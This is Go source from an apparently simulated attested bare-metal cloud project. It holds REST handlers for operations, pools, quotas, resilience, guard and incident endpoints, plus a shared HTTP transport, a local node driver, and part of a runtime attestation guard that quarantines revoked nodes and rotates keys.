			writeV1Error(w, fmt.Errorf("%w: unknown operation verb %q", errInvalid, verb))
			return
		}
		op, err := mgr.Operation(id)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		op.Cancel()
		writeV1JSON(w, http.StatusOK, operationInfo(op))
	})

	// GET /operations/{id}/events streams the operation's lifecycle
	// journal as NDJSON: replay from ?from=N, then follow live until
	// the operation is terminal. The journal fan-out guarantees no
	// event is lost between a snapshot and the wait for the next.
	mux.HandleFunc("GET /operations/{id}/events", func(w http.ResponseWriter, r *http.Request) {
		op, err := mgr.Operation(r.PathValue("id"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		cursor, err := cursorParam(r)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		// The stream follows the operation live — possibly for minutes.
		clearWriteDeadline(w)
		w.Header().Set("Content-Type", "application/x-ndjson")
		flush, done := vm.stream("GET /operations/{id}/events", w)
		defer done()
		enc := json.NewEncoder(w)
		wrote := false
		for {
			evs, notify, terminal := op.EventsSince(cursor)
			// Events are staged to the WAL before they are visible here;
			// one flush makes the whole batch durable before any of it is
			// served, so a cursor the client takes away survives a crash.
			if len(evs) > 0 {
				if err := mgr.SyncStore(); err != nil {
					if !wrote {
						writeV1Error(w, err)
					}
					return
				}
			}
			for _, ev := range evs {
				if err := enc.Encode(eventInfo(ev)); err != nil {
					return
				}
				wrote = true
			}
			cursor += len(evs)
			flush()
			if terminal {
				// Drain what the terminal snapshot delivered, then stop:
				// no further wake is coming.
				if len(evs) == 0 {
					return
				}
				continue
			}
			select {
			case <-notify:
			case <-r.Context().Done():
				return
			}
		}
	})

	// GET /operations/{id}/trace returns the operation's span tree as
	// NDJSON: one root span for the operation plus one span per
	// node × pipeline phase, each carrying start/end timestamps and any
	// error. The tracer retains the most recent MaxRetainedOps traces;
	// an evicted or restored-from-WAL operation answers 404.
	mux.HandleFunc("GET /operations/{id}/trace", func(w http.ResponseWriter, r *http.Request) {
		spans, err := mgr.OperationTrace(r.PathValue("id"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		w.Header().Set("Content-Type", "application/x-ndjson")
		_ = obs.WriteNDJSON(w, spans)
	})

	// --- warm-pool surface ---

	// PUT /pools/{enclave} creates the enclave's warm pool or updates
	// an existing one's policy. Body: PoolPolicyInfo; zero fields take
	// defaults. 201 on create, 200 on update.
	mux.HandleFunc("PUT /pools/{enclave}", func(w http.ResponseWriter, r *http.Request) {
		var req PoolPolicyInfo
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			writeV1Error(w, fmt.Errorf("%w: %v", errInvalid, err))
			return
		}
		st, created, err := mgr.ConfigurePool(r.PathValue("enclave"), req)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		status := http.StatusOK
		if created {
			status = http.StatusCreated
		}
		writeV1JSON(w, status, st)
	})

	mux.HandleFunc("GET /pools", func(w http.ResponseWriter, r *http.Request) {
		out := []PoolInfo{} // empty list is [], never null, on the wire
		out = append(out, mgr.ListPools()...)
		writeV1JSON(w, http.StatusOK, out)
	})

	mux.HandleFunc("GET /pools/{enclave}", func(w http.ResponseWriter, r *http.Request) {
		st, err := mgr.PoolStats(r.PathValue("enclave"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, st)
	})

	// Custom verb: POST /pools/{enclave}:drain releases every parked
	// standby back to the free pool and idles the refiller.
	mux.HandleFunc("POST /pools/{enclaveverb}", func(w http.ResponseWriter, r *http.Request) {
		enclave, verb, ok := strings.Cut(r.PathValue("enclaveverb"), ":")
		if !ok || verb != "drain" {
			writeV1Error(w, fmt.Errorf("%w: unknown pool verb %q", errInvalid, verb))
			return
		}
		st, err := mgr.DrainPool(enclave)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, st)
	})

	mux.HandleFunc("DELETE /pools/{enclave}", func(w http.ResponseWriter, r *http.Request) {
		name := r.PathValue("enclave")
		had, err := mgr.DetachPool(name)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		if !had {
			writeV1Error(w, fmt.Errorf("%w: enclave %q has no warm pool", core.ErrNotFound, name))
			return
		}
		w.WriteHeader(http.StatusNoContent)
	})

	// --- tenant QoS surface: quotas + scheduler ---

	// PUT /quotas/{tenant} creates or replaces a tenant's quota
	// (weight, node cap, in-flight cap). 201 on create, 200 on update.
	mux.HandleFunc("PUT /quotas/{tenant}", func(w http.ResponseWriter, r *http.Request) {
		var req TenantQuotaInfo
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			writeV1Error(w, fmt.Errorf("%w: %v", errInvalid, err))
			return
		}
		st, created, err := mgr.SetQuota(r.PathValue("tenant"), req)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		status := http.StatusOK
		if created {
			status = http.StatusCreated
		}
		writeV1JSON(w, status, st)
	})

	mux.HandleFunc("GET /quotas", func(w http.ResponseWriter, r *http.Request) {
		out := []QuotaInfo{} // empty list is [], never null, on the wire
		out = append(out, mgr.ListQuotas()...)
		writeV1JSON(w, http.StatusOK, out)
	})

	mux.HandleFunc("GET /quotas/{tenant}", func(w http.ResponseWriter, r *http.Request) {
		st, err := mgr.Quota(r.PathValue("tenant"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, st)
	})

	mux.HandleFunc("DELETE /quotas/{tenant}", func(w http.ResponseWriter, r *http.Request) {
		if err := mgr.DeleteQuota(r.PathValue("tenant")); err != nil {
			writeV1Error(w, err)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	})

	// GET /sched exposes the airlock scheduler: slot occupancy, queue
	// depth, per-tenant grants/waits and preemption counters — the
	// observability half of the fairness story.
	mux.HandleFunc("GET /sched", func(w http.ResponseWriter, r *http.Request) {
		writeV1JSON(w, http.StatusOK, mgr.SchedStats())
	})

	// --- resilience + degraded-mode surface ---

	// GET /health is the degraded-mode snapshot: per-backend breaker
	// states, degraded while any is open. Always 200 — the body says
	// whether the cloud is degraded; the endpoint answering at all says
	// the control plane is up.
	mux.HandleFunc("GET /health", func(w http.ResponseWriter, r *http.Request) {
		writeV1JSON(w, http.StatusOK, mgr.Health())
	})

	// GET/PUT /resilience read and replace the cloud-wide resilience
	// policy (retry budget, backoff, breaker thresholds, phase
	// deadline). Zero fields in a PUT take server defaults.
	mux.HandleFunc("GET /resilience", func(w http.ResponseWriter, r *http.Request) {
		pol, err := mgr.ResiliencePolicyFor("")
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, pol)
	})

	mux.HandleFunc("PUT /resilience", func(w http.ResponseWriter, r *http.Request) {
		var req ResiliencePolicyInfo
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			writeV1Error(w, fmt.Errorf("%w: %v", errInvalid, err))
			return
		}
		pol, err := mgr.ConfigureResilience("", req)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, pol)
	})

	// GET/PUT /enclaves/{name}/resilience read and set one enclave's
	// policy override (phase deadlines act per enclave; retry and
	// breaker parameters stay cloud-wide where the backends are
	// wrapped).
	mux.HandleFunc("GET /enclaves/{name}/resilience", func(w http.ResponseWriter, r *http.Request) {
		pol, err := mgr.ResiliencePolicyFor(r.PathValue("name"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, pol)
	})

	mux.HandleFunc("PUT /enclaves/{name}/resilience", func(w http.ResponseWriter, r *http.Request) {
		var req ResiliencePolicyInfo
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			writeV1Error(w, fmt.Errorf("%w: %v", errInvalid, err))
			return
		}
		pol, err := mgr.ConfigureResilience(r.PathValue("name"), req)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, pol)
	})

	// Custom verb: POST /enclaves/{name}/nodes/{node}:reclaim is the
	// operator's scrub-and-return path for a rejected-pool node — after
	// repair, the node is powered off, freed back to the provider's free
	// pool, and the recovery journaled.
	mux.HandleFunc("POST /enclaves/{name}/nodes/{nodeverb}", func(w http.ResponseWriter, r *http.Request) {
		node, verb, ok := strings.Cut(r.PathValue("nodeverb"), ":")
		if !ok || verb != "reclaim" {
			writeV1Error(w, fmt.Errorf("%w: unknown node verb %q", errInvalid, verb))
			return
		}
		if err := mgr.ReclaimNode(r.Context(), r.PathValue("name"), node); err != nil {
			writeV1Error(w, err)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	})

	// --- runtime attestation guard + incident response surface ---

	// attachedGuard resolves an enclave's guard to the concrete type
	// the /v1 surface serves (the manager registry is interface-typed).
	attachedGuard := func(name string) (*guard.Guard, error) {
		gc, ok := mgr.Guard(name)
		if !ok {
			return nil, fmt.Errorf("%w: enclave %q has no guard enabled", core.ErrNotFound, name)
		}
		g, ok := gc.(*guard.Guard)
		if !ok {
			return nil, fmt.Errorf("remote: enclave %q has a non-standard guard controller", name)
		}
		return g, nil
	}

	// PUT /enclaves/{name}/guard enables the guard (or updates the
	// policy of an already-enabled one). Body: GuardPolicyInfo; zero
	// fields take defaults. Idempotent: a retried or concurrent PUT
	// that loses the enable race degrades to a policy update.
	mux.HandleFunc("PUT /enclaves/{name}/guard", func(w http.ResponseWriter, r *http.Request) {
		var req GuardPolicyInfo
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			writeV1Error(w, fmt.Errorf("%w: %v", errInvalid, err))
			return
		}
		name := r.PathValue("name")
		if _, ok := mgr.Guard(name); !ok {
			g, err := guard.Enable(mgr, name, req)
			if err == nil {
				writeV1JSON(w, http.StatusCreated, guardInfo(g))
				return
			}
			if !errors.Is(err, core.ErrExists) {
				writeV1Error(w, err)
				return
			}
			// Lost an enable race; fall through to the update path.
		}
		g, err := attachedGuard(name)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		if err := g.SetPolicy(req); err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, guardInfo(g))
	})

	mux.HandleFunc("GET /enclaves/{name}/guard", func(w http.ResponseWriter, r *http.Request) {
		g, err := attachedGuard(r.PathValue("name"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		writeV1JSON(w, http.StatusOK, guardInfo(g))
	})

	mux.HandleFunc("DELETE /enclaves/{name}/guard", func(w http.ResponseWriter, r *http.Request) {
		name := r.PathValue("name")
		if !mgr.DetachGuard(name) {
			writeV1Error(w, fmt.Errorf("%w: enclave %q has no guard enabled", core.ErrNotFound, name))
			return
		}
		w.WriteHeader(http.StatusNoContent)
	})

	// GET /enclaves/{name}/revocations is the wire form of the
	// verifier's revocation feed (keylime.Verifier.Subscribe): a JSON
	// snapshot from ?from=N, or — with ?watch=1 — an NDJSON stream that
	// replays and then follows live.
	mux.HandleFunc("GET /enclaves/{name}/revocations", func(w http.ResponseWriter, r *http.Request) {
		name := r.PathValue("name")
		cursor, err := cursorParam(r)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		if r.URL.Query().Get("watch") == "" {
			evs, _, next, err := mgr.RevocationsSince(name, cursor)
			if err != nil {
				writeV1Error(w, err)
				return
			}
			out := []RevocationInfo{}
			for i, ev := range evs {
				out = append(out, revocationInfo(uint64(next-len(evs)+i+1), ev))
			}
			writeV1JSON(w, http.StatusOK, out)
			return
		}
		// Validate the enclave before committing to a stream, so a bad
		// name still gets a typed error envelope.
		if _, err := mgr.Enclave(name); err != nil {
			writeV1Error(w, err)
			return
		}
		clearWriteDeadline(w)
		w.Header().Set("Content-Type", "application/x-ndjson")
		flush, done := vm.stream("GET /enclaves/{name}/revocations", w)
		defer done()
		enc := json.NewEncoder(w)
		for {
			evs, notify, next, err := mgr.RevocationsSince(name, cursor)
			if err != nil {
				return // enclave deleted mid-stream
			}
			for i, ev := range evs {
				if err := enc.Encode(revocationInfo(uint64(next-len(evs)+i+1), ev)); err != nil {
					return
				}
			}
			cursor = next
			flush()
			select {
			case <-notify:
			case <-r.Context().Done():
				return
			}
		}
	})

	// GET /enclaves/{name}/events exposes the enclave lifecycle
	// journal itself — unlike /operations/{id}/events it is not scoped
	// to one acquisition, so runtime events (revoked, quarantined,
	// rekeyed, healed) recorded long after a batch finished remain
	// observable. NDJSON; ?from=N replays from a cursor, ?follow=1
	// keeps following live.
	mux.HandleFunc("GET /enclaves/{name}/events", func(w http.ResponseWriter, r *http.Request) {
		e, err := mgr.Enclave(r.PathValue("name"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		cursor, err := cursorParam(r)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		follow := r.URL.Query().Get("follow") != ""
		j := e.Journal()
		if follow {
			clearWriteDeadline(w)
		}
		w.Header().Set("Content-Type", "application/x-ndjson")
		flush, done := vm.stream("GET /enclaves/{name}/events", w)
		defer done()
		enc := json.NewEncoder(w)
		var notify chan struct{}
		var unwatch func()
		if follow {
			notify = make(chan struct{}, 1)
			unwatch = j.Watch(func(core.Event) {
				select {
				case notify <- struct{}{}:
				default:
				}
			})
			defer unwatch()
		}
		wrote := false
		for {
			evs := j.EventsSince(cursor)
			// Events are staged to the WAL before they are visible here;
			// one flush makes the whole batch durable before any of it is
			// served, so a cursor the client takes away survives a crash.
			if len(evs) > 0 {
				if err := mgr.SyncStore(); err != nil {
					if !wrote {
						writeV1Error(w, err)
					}
					return
				}
			}
			for _, ev := range evs {
				if err := enc.Encode(eventInfo(ev)); err != nil {
					return
				}
				wrote = true
			}
			cursor += len(evs)
			flush()
			if !follow {
				return
			}
			select {
			case <-notify:
			case <-r.Context().Done():
				return
			}
		}
	})

	// GET /incidents lists incident resources (?enclave= filters); with
	// ?watch=1 it becomes an NDJSON stream of incident-status updates,
	// replaying from ?from=N and then following live. The cursor counts
	// feed positions, so it stays meaningful with and without a filter.
	mux.HandleFunc("GET /incidents", func(w http.ResponseWriter, r *http.Request) {
		cursor, err := cursorParam(r)
		if err != nil {
			writeV1Error(w, err)
			return
		}
		enclave := r.URL.Query().Get("enclave")
		if r.URL.Query().Get("watch") == "" {
			out := []*IncidentInfo{} // empty list is [], never null
			for _, inc := range mgr.ListIncidents(enclave) {
				out = append(out, incidentInfo(inc.Status()))
			}
			writeV1JSON(w, http.StatusOK, out)
			return
		}
		clearWriteDeadline(w)
		w.Header().Set("Content-Type", "application/x-ndjson")
		flush, done := vm.stream("GET /incidents", w)
		defer done()
		enc := json.NewEncoder(w)
		for {
			updates, notify, next := mgr.IncidentUpdatesSince(cursor)
			for i, st := range updates {
				if enclave != "" && st.Enclave != enclave {
					continue // filtered out; cursor still advances
				}
				info := incidentInfo(st)
				info.Seq = uint64(next - len(updates) + i + 1)
				if err := enc.Encode(info); err != nil {
					return
				}
			}
			cursor = next
			flush()
			select {
			case <-notify:
			case <-r.Context().Done():
				return
			}
		}
	})

	// GET /incidents/{id} polls; ?wait=1 long-polls until the incident
	// reaches a terminal state.
	mux.HandleFunc("GET /incidents/{id}", func(w http.ResponseWriter, r *http.Request) {
		inc, err := mgr.Incident(r.PathValue("id"))
		if err != nil {
			writeV1Error(w, err)
			return
		}
		if r.URL.Query().Get("wait") != "" {
			clearWriteDeadline(w)
			select {
			case <-inc.Done():
			case <-r.Context().Done():
				writeV1Error(w, fmt.Errorf("%w: wait interrupted: %v", errInvalid, r.Context().Err()))
				return
			}
		}
		writeV1JSON(w, http.StatusOK, incidentInfo(inc.Status()))
	})

	// Per-route request latency/status wraps the whole surface; with no
	// registry attached this returns the mux untouched.
	return instrumentMux(mgr.Metrics(), mux)
}

// cursorParam parses the replay cursor: ?from=N (0-based feed
// position, 0 when absent) or its alias ?after=N ("resume past seq N").
// Seqs are 1-based and contiguous, so the two coincide numerically —
// after=7 means "I have seqs 1..7", which is exactly from=7 — and
// because seqs are restored from the durable store, an after= cursor
// taken before a crash resumes the same feed after a restart.
func cursorParam(r *http.Request) (int, error) {
	q := r.URL.Query()
	val, name := q.Get("from"), "from"
	if after := q.Get("after"); after != "" {
		if val != "" {
			return 0, fmt.Errorf("%w: give either from= or after=, not both", errInvalid)
		}
		val, name = after, "after"
	}
	if val == "" {
		return 0, nil
	}
	cursor, err := strconv.Atoi(val)
	if err != nil || cursor < 0 {
		return 0, fmt.Errorf("%w: bad %s cursor %q", errInvalid, name, val)
	}
	return cursor, nil
}
