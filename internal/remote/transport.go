package remote

import (
	"net"
	"net/http"
	"time"
)

// Every client in this package — the HIL/BMI/registrar wire clients a
// Dialed Cloud is built from, the node-plane driver, the per-node
// remote agents, and the /v1 control-plane client — shares this one
// pooled transport. The enclave pipeline issues hundreds of small
// requests per batch (HIL wiring, block I/O frames, agent round
// trips), all to the same boltedd host; http.DefaultTransport keeps
// only two idle connections per host, so a concurrent batch would
// churn through a new TCP connection per request beyond that. One
// shared pool with generous per-host keep-alives removes that churn —
// TestTransportConnectionReuse pins the behaviour.
var sharedTransport = &http.Transport{
	Proxy: http.ProxyFromEnvironment,
	DialContext: (&net.Dialer{
		Timeout:   30 * time.Second,
		KeepAlive: 30 * time.Second,
	}).DialContext,
	MaxIdleConns:          256,
	MaxIdleConnsPerHost:   64,
	IdleConnTimeout:       90 * time.Second,
	TLSHandshakeTimeout:   10 * time.Second,
	ExpectContinueTimeout: time.Second,
}

// sharedHTTPClient is the package-wide client over sharedTransport. No
// global timeout: the surface includes long-lived streams and long
// polls; bounded calls pass a request context instead.
var sharedHTTPClient = &http.Client{Transport: sharedTransport}
