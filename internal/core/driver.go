package core

import (
	"context"
	"fmt"
	"sync"

	"bolted/internal/firmware"
	"bolted/internal/ima"
	"bolted/internal/keylime"
	"bolted/internal/tpm"
)

// localDriver is the in-process NodeDriver: it reaches straight into
// the simulated machines and switch fabric, the way the pre-refactor
// orchestrator did. boltedd wraps the same driver behind the node-plane
// REST API, so local and remote pipelines execute identical node-side
// steps.
type localDriver struct {
	c *Cloud

	mu     sync.Mutex
	agents map[string]*keylime.Agent
}

func newLocalDriver(c *Cloud) *localDriver {
	return &localDriver{c: c, agents: make(map[string]*keylime.Agent)}
}

// agent returns the node's live agent (created by Boot).
func (d *localDriver) agent(node string) (*keylime.Agent, error) {
	d.mu.Lock()
	defer d.mu.Unlock()
	a, ok := d.agents[node]
	if !ok {
		return nil, fmt.Errorf("core: node %q has no running agent (not booted?)", node)
	}
	return a, nil
}

// Boot implements NodeDriver.
func (d *localDriver) Boot(ctx context.Context, node string) (keylime.AgentConn, error) {
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	m, err := d.c.Machine(node)
	if err != nil {
		return nil, err
	}
	if d.c.Config.Firmware == FirmwareUEFI {
		if err := firmware.NetworkBootRuntime(m, d.c.Heads); err != nil {
			return nil, err
		}
	}
	agent := keylime.NewAgent(node, m, d.c.Fabric)
	if err := agent.RegisterWith(ctx, d.c.Registrar, PortRegistrar); err != nil {
		return nil, err
	}
	d.mu.Lock()
	d.agents[node] = agent // re-boot replaces any stale agent
	d.mu.Unlock()
	return agent, nil
}

// ExpectedBootPCRs implements NodeDriver.
func (d *localDriver) ExpectedBootPCRs(ctx context.Context, node string) (map[int][]tpm.Digest, error) {
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	return d.c.ExpectedBootPCRs(node)
}

// KexecAttested implements NodeDriver: the node kexecs what Keylime
// delivered — the payload its agent unwrapped — never what came over
// the unauthenticated image path.
func (d *localDriver) KexecAttested(ctx context.Context, node, kernelID string) error {
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("core: %w", err)
	}
	a, err := d.agent(node)
	if err != nil {
		return err
	}
	p, err := a.Unwrap()
	if err != nil {
		return err
	}
	return a.Machine().Kexec(kernelID, p.Kernel, p.Initrd)
}

// Kexec implements NodeDriver.
func (d *localDriver) Kexec(ctx context.Context, node, kernelID string, kernel, initrd []byte) error {
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("core: %w", err)
	}
	m, err := d.c.Machine(node)
	if err != nil {
		return err
	}
	return m.Kexec(kernelID, kernel, initrd)
}

// StartIMA implements NodeDriver.
func (d *localDriver) StartIMA(ctx context.Context, node string) (*ima.Collector, error) {
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	a, err := d.agent(node)
	if err != nil {
		return nil, err
	}
	col := ima.NewCollector(a.Machine().TPM(), ima.StressPolicy)
	a.AttachIMA(col)
	return col, nil
}

// StopAgent implements NodeDriver.
func (d *localDriver) StopAgent(ctx context.Context, node string) error {
	d.mu.Lock()
	delete(d.agents, node)
	d.mu.Unlock()
	return nil
}

// AddServicePort implements NodeDriver.
func (d *localDriver) AddServicePort(ctx context.Context, name string) error {
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("core: %w", err)
	}
	_, err := d.c.Fabric.AddPort(name)
	return err
}

// Reachable implements NodeDriver.
func (d *localDriver) Reachable(ctx context.Context, portA, portB string) error {
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("core: %w", err)
	}
	return d.c.Fabric.CheckReachable(portA, portB)
}
