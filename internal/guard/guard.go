// Package guard is Bolted's runtime attestation guard: the enforcement
// plane above the Keylime verifier that §7.4 of the paper leaves to the
// tenant's own scripts. The verifier detects a runtime integrity
// violation and revokes a node's keys; the guard turns that detection
// into an automated incident response — quarantine the node (HIL port
// and BMI export torn down, parked in the provider's rejected pool),
// rotate the enclave-wide IPsec PSK on every surviving member, and,
// policy permitting, acquire an attested replacement so the enclave
// self-heals back to its target size. Every response is recorded as a
// core.Incident the tenant can poll, wait on, or stream over /v1.
//
// The guard also *drives* detection: a periodic IMA round checks every
// Allocated member under a configurable policy (interval, quote
// concurrency, failure tolerance), so an enclave is protected even when
// nobody called StartContinuousAttestation per node.
package guard

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"time"

	"bolted/internal/core"
	"bolted/internal/keylime"
	"bolted/internal/obs"
)

// Policy defaults; chosen so a default guard detects within a few
// hundred milliseconds (the paper's detection-to-ban budget is ~3 s on
// real hardware) without saturating the verifier with quotes.
const (
	DefaultInterval         = 250 * time.Millisecond
	DefaultMaxConcurrent    = 4
	DefaultFailureTolerance = 3
	DefaultCoalesceWindow   = 25 * time.Millisecond
)

// maxStatusIncidents bounds how many incident IDs Status retains.
const maxStatusIncidents = 64

// Policy configures one enclave's guard.
type Policy struct {
	// Interval is the cadence of IMA check rounds over Allocated
	// members.
	Interval time.Duration `json:"interval_ns"`
	// MaxConcurrent bounds in-flight CheckIMA quotes per round, capping
	// pressure on the verifier and the attestation network.
	MaxConcurrent int `json:"max_concurrent"`
	// FailureTolerance is how many consecutive failed check rounds
	// (unreachable agent, quote errors) a member survives before the
	// guard revokes it. A violation verdict revokes immediately.
	FailureTolerance int `json:"failure_tolerance"`
	// CoalesceWindow is how long the responder waits after the first
	// revocation for further concurrent revocations, so one PSK
	// rotation covers the whole burst.
	CoalesceWindow time.Duration `json:"coalesce_window_ns"`
	// SelfHeal acquires an attested replacement node per quarantined
	// member, restoring the enclave's size.
	SelfHeal bool `json:"self_heal"`
	// Image is the boot image for replacement nodes (required with
	// SelfHeal).
	Image string `json:"image,omitempty"`
}

// withDefaults fills unset fields.
func (p Policy) withDefaults() Policy {
	if p.Interval <= 0 {
		p.Interval = DefaultInterval
	}
	if p.MaxConcurrent <= 0 {
		p.MaxConcurrent = DefaultMaxConcurrent
	}
	if p.FailureTolerance <= 0 {
		p.FailureTolerance = DefaultFailureTolerance
	}
	if p.CoalesceWindow <= 0 {
		p.CoalesceWindow = DefaultCoalesceWindow
	}
	return p
}

// Validate reports policy inconsistencies.
func (p Policy) Validate() error {
	if p.SelfHeal && p.Image == "" {
		return fmt.Errorf("guard: self-healing needs a replacement image")
	}
	return nil
}

// Status is a point-in-time view of a guard.
type Status struct {
	Enclave     string   `json:"enclave"`
	Policy      Policy   `json:"policy"`
	Rounds      uint64   `json:"rounds"`      // completed IMA check rounds
	Checks      uint64   `json:"checks"`      // CheckIMA calls issued
	Revocations uint64   `json:"revocations"` // revocations responded to
	Paused      bool     `json:"paused,omitempty"`
	Incidents   []string `json:"incidents,omitempty"`
}

// Guard is the runtime attestation guard for one enclave. Create with
// Enable; it registers itself with the Manager so revocation events are
// routed to it.
type Guard struct {
	mgr     *core.Manager
	enclave *core.Enclave
	name    string

	ctx    context.Context // cancelled by Stop; bounds heal waits
	cancel context.CancelFunc
	stop   chan struct{}
	queue  chan keylime.RevocationEvent
	wake   chan struct{} // signalled by SetPolicy; re-arms the round timer

	metrics guardMetrics

	loopDone chan struct{}
	respDone chan struct{}
	healWG   sync.WaitGroup // in-flight replacement acquisitions
	healMu   sync.Mutex     // serializes heals (one StartAcquire per enclave)

	mu          sync.Mutex
	policy      Policy
	failures    map[string]int // consecutive failed check rounds per node
	rounds      uint64
	checks      uint64
	revocations uint64
	paused      bool // rounds held while the registrar breaker is open
	incidents   []string
	stopped     bool
}

// guardMetrics are the guard's per-enclave instruments. The zero value
// (uninstrumented manager) is fully usable: every method on a nil
// instrument is a no-op.
type guardMetrics struct {
	roundSeconds *obs.Histogram // duration of one IMA check round
	checks       *obs.Counter   // CheckIMA calls issued
	revocations  *obs.Counter   // revocations responded to
}

func newGuardMetrics(reg *obs.Registry, enclave string) guardMetrics {
	return guardMetrics{
		roundSeconds: reg.HistogramVec("bolted_guard_round_seconds",
			"Duration of one periodic IMA check round over Allocated members.",
			obs.DefLatencyBuckets, "enclave").With(enclave),
		checks: reg.CounterVec("bolted_guard_checks_total",
			"CheckIMA quotes issued by the guard's periodic rounds.",
			"enclave").With(enclave),
		revocations: reg.CounterVec("bolted_guard_revocations_total",
			"Revocation events the guard responded to.",
			"enclave").With(enclave),
	}
}

// PolicyJSON implements core.PolicyReporter: the manager commits the
// returned policy to its durable store when the guard attaches, so a
// restarted control plane can re-enable the guard via Restore.
func (g *Guard) PolicyJSON() (json.RawMessage, error) {
	return json.Marshal(g.Policy())
}

// Restore re-enables every guard whose policy the manager recovered from
// its durable store (Manager.Recover). It returns the guards it started;
// an enclave whose re-enable fails is skipped with its error recorded in
// the second return, so one broken policy does not abandon the rest.
func Restore(mgr *core.Manager) ([]*Guard, map[string]error) {
	var out []*Guard
	errs := make(map[string]error)
	for enclave, raw := range mgr.RecoveredGuardPolicies() {
		var p Policy
		if err := json.Unmarshal(raw, &p); err != nil {
			errs[enclave] = fmt.Errorf("guard: decode recovered policy: %w", err)
			continue
		}
		g, err := Enable(mgr, enclave, p)
		if err != nil {
			errs[enclave] = err
			continue
		}
		out = append(out, g)
	}
	if len(errs) == 0 {
		errs = nil
	}
	return out, errs
}

// Enable builds a guard over a managed enclave under the given policy,
// attaches it to the manager, and starts its monitoring and response
// loops. The enclave's profile must enable continuous attestation (the
// guard is an IMA consumer; without a whitelist there is nothing to
// check).
func Enable(mgr *core.Manager, enclave string, p Policy) (*Guard, error) {
	e, err := mgr.Enclave(enclave)
	if err != nil {
		return nil, err
	}
	if !e.Profile.ContinuousAttest || e.Verifier() == nil {
		return nil, fmt.Errorf("%w: enclave %q profile %q does not enable continuous attestation",
			core.ErrConflict, enclave, e.Profile.Name)
	}
	p = p.withDefaults()
	if err := p.Validate(); err != nil {
		return nil, fmt.Errorf("%w: %v", core.ErrInvalid, err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	g := &Guard{
		mgr:      mgr,
		enclave:  e,
		name:     enclave,
		ctx:      ctx,
		cancel:   cancel,
		stop:     make(chan struct{}),
		queue:    make(chan keylime.RevocationEvent, 1024),
		wake:     make(chan struct{}, 1),
		loopDone: make(chan struct{}),
		respDone: make(chan struct{}),
		policy:   p,
		failures: make(map[string]int),
		metrics:  newGuardMetrics(mgr.Metrics(), enclave),
	}
	if err := mgr.AttachGuard(enclave, g); err != nil {
		cancel()
		return nil, err
	}
	go g.monitorLoop()
	go g.respondLoop()
	return g, nil
}

// Enclave returns the guarded enclave's name.
func (g *Guard) Enclave() string { return g.name }

// Policy returns the guard's current policy.
func (g *Guard) Policy() Policy {
	g.mu.Lock()
	defer g.mu.Unlock()
	return g.policy
}

// SetPolicy replaces the policy and re-arms the round timer, so a
// tighter interval takes effect immediately rather than after the
// previously scheduled tick.
func (g *Guard) SetPolicy(p Policy) error {
	p = p.withDefaults()
	if err := p.Validate(); err != nil {
		return fmt.Errorf("%w: %v", core.ErrInvalid, err)
	}
	g.mu.Lock()
	g.policy = p
	g.mu.Unlock()
	// Commit the new policy so a restarted control plane re-enables the
	// guard with what the tenant last set. Best-effort: the live guard
	// already runs the new policy either way.
	if raw, err := json.Marshal(p); err == nil {
		_ = g.mgr.NoteGuardPolicy(g.name, raw)
	}
	select {
	case g.wake <- struct{}{}:
	default: // a wake-up is already pending
	}
	return nil
}

// Status snapshots the guard's counters.
func (g *Guard) Status() Status {
	g.mu.Lock()
	defer g.mu.Unlock()
	return Status{
		Enclave:     g.name,
		Policy:      g.policy,
		Rounds:      g.rounds,
		Checks:      g.checks,
		Revocations: g.revocations,
		Paused:      g.paused,
		Incidents:   append([]string(nil), g.incidents...),
	}
}

// Stop halts the monitoring and response loops and waits for them (and
// any in-flight incident response) to finish. Implements
// core.GuardController; DetachGuard and DeleteEnclave call it.
func (g *Guard) Stop() {
	g.mu.Lock()
	if g.stopped {
		g.mu.Unlock()
		return
	}
	g.stopped = true
	g.mu.Unlock()
	close(g.stop)
	g.cancel()
	<-g.loopDone
	<-g.respDone
	g.healWG.Wait()
}

// HandleRevocation implements core.GuardController: it runs inside the
// verifier's synchronous revocation fan-out, so it only enqueues. The
// response loop does the slow work.
func (g *Guard) HandleRevocation(ev keylime.RevocationEvent) {
	select {
	case g.queue <- ev:
	default:
		// The queue holds 1024 events — far beyond any real enclave's
		// node count. If it is somehow full, the enclave's own
		// subscription already revoked the node's SAs; dropping the
		// response beat is the safe overload behavior.
	}
}

